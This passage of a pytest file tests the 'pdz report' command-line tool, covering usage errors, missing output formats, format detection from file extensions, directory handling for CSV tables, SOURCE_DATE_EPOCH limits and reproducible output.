def test_cli_usage_errors(tmp_path, args, message):
    result = pdz('report', EXAMPLE, *args, check=False, cwd=tmp_path)
    assert result.returncode == 2
    err = result.stderr.decode()
    assert err.startswith('pdz: report: ') and message in err, err
    # one line, and the hint
    assert err.endswith("\nTry 'pdz report --help' for more information.\n") and err.count('\n') == 2, err
    assert result.stdout == b''
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize('args,name', [
    (['-f', 'pdf'], 'PDF'), (['-f', 'odp'], 'ODP'),
    (['-o', 'r.pdf'], 'PDF'), (['-o', 'r.odp'], 'ODP'), (['-o', 'R.PDF'], 'PDF'),
    (['-f', 'pdf', '-o', 'r.html'], 'PDF'),
])
def test_cli_unavailable_formats(tmp_path, args, name):
    # A format the command knows, by -f and by the extension of -o, that
    # this build leaves out (tests/test-build-options.sh builds one without
    # them all): the library's message, exit 2
    if name.lower() not in unavailable_formats():
        pytest.skip('this build writes %s' % name)
    result = pdz('report', EXAMPLE, *args, check=False, cwd=tmp_path)
    assert result.returncode == 2
    err = result.stderr.decode()
    assert err.startswith('pdz: ') and err.count('\n') == 1, err
    assert ('this build of libpdz has no %s writer (' % name) in err, err
    assert 'it writes html, markdown, csv' in err, err
    assert result.stdout == b''
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize('name,start', [
    ('r.html', b'<!DOCTYPE html>'), ('r.HTM', b'<!DOCTYPE html>'),
    ('r.md', None), ('r.markdown', None),
    pytest.param('r.xlsx', b'PK\x03\x04', marks=needs_xlsx),
    pytest.param('r.pdf', b'%PDF-1.5', marks=pytest.mark.skipif('pdf' in unavailable_formats(),
                                                               reason='this build has no PDF writer')),
    pytest.param('R.PDF', b'%PDF-1.5', marks=pytest.mark.skipif('pdf' in unavailable_formats(),
                                                               reason='this build has no PDF writer')),
    pytest.param('r.odp', b'PK\x03\x04\x14\x00\x00\x00\x00\x00',
                 marks=pytest.mark.skipif('odp' in unavailable_formats(), reason='this build has no ODP writer')),
])
def test_cli_format_from_extension(tmp_path, name, start):
    out = tmp_path / name
    pdz('report', INJECTION, '-o', out)
    data = out.read_bytes()
    if start is None:   # Markdown: its first heading, the plan's title
        assert data.startswith(b'# Piano '), data[:40]
    else:
        assert data.startswith(start)


@pytest.mark.parametrize('fmt,name', [('html', 'r.html'), ('md', 'r.md'),
                                      pytest.param('xlsx', 'r.xlsx', marks=needs_xlsx),
                                      ('csv', 'r.csv')])
def test_cli_no_silent_directories(tmp_path, fmt, name):
    # like cp: a directory that does not exist is an error naming the file
    out = tmp_path / 'new' / 'sub' / name
    result = pdz('report', INJECTION, '-f', fmt, '--table', 'actions', '-o', out, check=False) \
        if fmt == 'csv' else pdz('report', INJECTION, '-f', fmt, '-o', out, check=False)
    assert result.returncode == 2
    assert result.stderr.decode() == 'pdz: report: %s: cannot write: No such file or directory\n' % out
    assert list(tmp_path.iterdir()) == []


def test_cli_csv_directory_is_the_output(tmp_path):
    # the one directory made: the output of every table, under an existing parent
    result = pdz('report', INJECTION, '-f', 'csv', '-o', tmp_path / 'new' / 'tables', check=False)
    assert result.returncode == 2
    assert result.stderr.decode() == \
        'pdz: report: %s: cannot create the directory: No such file or directory\n' % (tmp_path / 'new' / 'tables')
    assert list(tmp_path.iterdir()) == []
    for out in (tmp_path / 'tables', str(tmp_path / 'again') + '/'):
        pdz('report', INJECTION, '-f', 'csv', '-o', out)
        assert sorted(p.name for p in pathlib.Path(out).iterdir()) == sorted(t + '.csv' for t in TABLES)
    # nor over a file
    (tmp_path / 'plain').write_text('old')
    result = pdz('report', INJECTION, '-f', 'csv', '-o', tmp_path / 'plain', check=False)
    assert result.returncode == 2
    assert 'plain: cannot create the directory: Not a directory' in result.stderr.decode()
    assert (tmp_path / 'plain').read_text() == 'old'


@pytest.mark.parametrize('args', [['-o', 'out.csv'], ['-f', 'csv', '-o', 'OUT.CSV'],
                                  ['-f', 'csv', '--table', 'all', '-o', 'tables.csv']])
def test_cli_every_csv_table_to_a_csv_file(tmp_path, args):
    # every table goes to a directory: one called "out.csv" is a mistake
    result = pdz('report', EXAMPLE, *args, check=False, cwd=tmp_path)
    assert result.returncode == 2
    err = result.stderr.decode()
    assert err.startswith('pdz: ') and '--table' in err and 'directory' in err, err
    assert list(tmp_path.iterdir()) == []


def test_cli_one_csv_table_to_a_csv_file(tmp_path):
    pdz('report', EXAMPLE, '-f', 'csv', '--table', 'actions', '-o', tmp_path / 'out.csv')
    assert (tmp_path / 'out.csv').is_file()
    # and every table to a directory, without the extension
    pdz('report', EXAMPLE, '-f', 'csv', '-o', tmp_path / 'tables')
    assert (tmp_path / 'tables' / 'actions.csv').is_file()


def test_cli_source_date_epoch_out_of_range(tmp_path):
    # milliseconds since 1970 are past 9999: an error, not a crash
    result = pdz('report', EXAMPLE, '-o', tmp_path / 'r.html', check=False,
                 env={'SOURCE_DATE_EPOCH': '1700000000000'})
    assert result.returncode == 2
    err = result.stderr.decode()
    assert err.startswith('pdz: ') and 'SOURCE_DATE_EPOCH' in err and '253402300799' in err, err
    assert not (tmp_path / 'r.html').exists()


def test_cli_bad_input(tmp_path):
    result = pdz('report', tmp_path / 'missing.json', check=False)
    assert result.returncode == 2
    assert result.stderr.decode().startswith('pdz: ')
    result = pdz('report', check=False)
    assert result.returncode == 2


def test_cli_outputs(tmp_path):
    # the format follows the extension of -o
    if XLSX_AVAILABLE:
        xlsx = tmp_path / 'r.xlsx'
        pdz('report', EXAMPLE, '-o', xlsx)
        assert xlsx.read_bytes().startswith(b'PK\x03\x04')
    # one CSV table to the standard output
    out = pdz('report', EXAMPLE, '-f', 'csv', '--table', 'partners').stdout.decode()
    assert out.splitlines()[0].startswith('ID,Denominazione,')
    # --date fixes the date of the report
    page = pdz('report', EXAMPLE, '--date', '2024-02-29').stdout.decode()
    assert 'Relazione generata il 29 febbraio 2024' in page
    # the same input gives the same bytes
    assert pdz('report', EXAMPLE, '-f', 'md').stdout == pdz('report', EXAMPLE, '-f', 'md').stdout
